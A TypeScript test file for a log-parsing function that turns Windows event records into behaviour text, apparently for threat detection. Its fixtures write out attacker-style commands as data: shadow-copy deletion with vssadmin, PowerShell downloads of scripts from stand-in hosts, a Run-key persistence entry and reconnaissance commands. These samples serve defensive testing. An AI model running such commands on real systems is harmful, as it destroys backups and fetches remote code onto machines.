import { describe, expect, it } from 'vitest';
import { type Event, eventSchema } from '../../core/index.js';
import { behaviourTexts } from './behaviour-texts.js';

const event = (fields: Partial<Event> & { fields?: Record<string, unknown> }): Event =>
  eventSchema.parse({
    id: 'e1',
    timestamp: '2024-05-01T10:00:00Z',
    origin: { format: 'windows-json' },
    raw: '{}',
    fields: {},
    ...fields,
  });

describe('behaviourTexts', () => {
  it('gives each command of a command line its own text', () => {
    const texts = behaviourTexts(
      event({ process: { commandLine: 'cmd /c whoami /all && net localgroup administrators' } }),
    );
    expect(texts).toEqual([
      { field: 'process.commandLine', text: 'cmd /c whoami /all' },
      { field: 'process.commandLine', text: 'net localgroup administrators' },
    ]);
  });

  it('reads script blocks per statement, services, task commands, registry writes and DNS names', () => {
    const texts = behaviourTexts(
      event({
        code: '4698',
        fields: {
          ScriptBlockText: '$c = New-Object Net.WebClient\n$c.DownloadString("http://x.example/a")',
          ServiceName: 'updater',
          ImagePath: 'C:\\Users\\Public\\svc.exe',
          TaskContent:
            '<Task><Actions><Exec><Command>C:\\temp\\a.exe</Command><Arguments>-q</Arguments></Exec></Actions></Task>',
        },
        registry: { key: 'HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\upd', data: 'C:\\temp\\a.exe' },
        dns: { question: { name: 'abc.example.net', type: 'TXT' } },
      }),
    );
    expect(texts.map((text) => text.field)).toEqual([
      'ScriptBlockText',
      'ScriptBlockText',
      'ServiceName',
      'TaskContent',
      'registry.key',
      'dns.question.name',
    ]);
    expect(texts.find((text) => text.field === 'TaskContent')?.text).toBe('schtasks C:\\temp\\a.exe -q');
  });

  it('reads the nested event_data names of older exports and gives nothing for an event without behaviour', () => {
    expect(
      behaviourTexts(event({ fields: { 'event_data.CommandLine': 'vssadmin delete shadows /all /quiet' } })),
    ).toEqual([{ field: 'process.commandLine', text: 'vssadmin delete shadows /all /quiet' }]);
    expect(behaviourTexts(event({}))).toEqual([]);
  });

  it('reads a PowerShell module log as the commands it records, with the parameters they were given', () => {
    // 4103: a module exporting its functions binds their names; the names are not commands run.
    const payload = [
      'CommandInvocation(Export-ModuleMember): "Export-ModuleMember"',
      'ParameterBinding(Export-ModuleMember): name="Function"; value="Clear-DnsClientCache"',
      'ParameterBinding(Export-ModuleMember): name="Alias"; value="*"',
      'CommandInvocation(Invoke-WebRequest): "Invoke-WebRequest"',
      'ParameterBinding(Invoke-WebRequest): name="Uri"; value="http://198.51.100.7/a.ps1"',
      'ParameterBinding(Invoke-WebRequest): name="OutFile"; value="C:\\Users\\Public\\a.ps1"',
    ].join('\n');
    expect(behaviourTexts(event({ code: '4103', fields: { Payload: payload } }))).toEqual([
      { field: 'Payload', text: 'Export-ModuleMember -Function Clear-DnsClientCache -Alias *' },
      {
        field: 'Payload',
        text: 'Invoke-WebRequest -Uri http://198.51.100.7/a.ps1 -OutFile C:\\Users\\Public\\a.ps1',
      },
    ]);
  });

  it('gives a bare program path as the program alone, and skips script statements of keywords and variables only', () => {
    expect(behaviourTexts(event({ process: { commandLine: '"C:\\Windows\\System32\\cmd.exe"' } }))).toEqual([
      { field: 'process.commandLine', text: 'cmd.exe' },
    ]);
    expect(behaviourTexts(event({ process: { commandLine: 'C:\\Windows\\System32\\whoami.exe /all' } }))).toEqual([
      { field: 'process.commandLine', text: 'C:\\Windows\\System32\\whoami.exe /all' },
    ]);
    const script =
      'foreach ($member in $members) {\nif ($member.Enabled) { return $false }\nRemove-ADGroupMember -Identity $group -Members $member\n}';
    expect(behaviourTexts(event({ fields: { ScriptBlockText: script } })).map((text) => text.text)).toEqual([
      'Remove-ADGroupMember -Identity $group -Members $member',
    ]);
  });
});
